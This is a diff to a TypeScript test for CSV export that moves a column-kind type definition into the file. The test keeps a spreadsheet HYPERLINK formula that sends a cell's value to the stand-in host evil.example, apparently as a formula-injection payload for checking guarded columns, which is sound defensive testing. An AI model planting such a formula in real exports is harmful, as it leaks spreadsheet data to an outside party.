@@ -7,7 +7,6 @@ import { makeLine, seedConnection, seedLines, seedOrganization } from '../ledger
 import { LINE } from '../partner/test-records.ts'
 import { parseLine } from '../partner/wire-line.ts'
 import { GROUP_KEYS } from '../reconcile/group-keys.ts'
-import type { ColumnKind } from './csv.ts'
 import { toGroupColumns } from './group-columns.ts'
 import { LINE_COLUMNS } from './line-columns.ts'
 import { CSV_FILES } from './stream-csv.ts'
@@ -15,6 +14,7 @@ import { parseCsvRecords, readAll } from './test-parse-csv.ts'
 
 const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
 /** What stands in the columns that are not guarded. A column of words of our own has its words here. */
+type ColumnKind = (typeof LINE_COLUMNS)[number]['kind']
 const AMOUNT = /^-?\d+(\.\d+)?$/
 const UNGUARDED: Record<Exclude<ColumnKind, 'text' | 'code'>, RegExp> = {
   amount: AMOUNT,
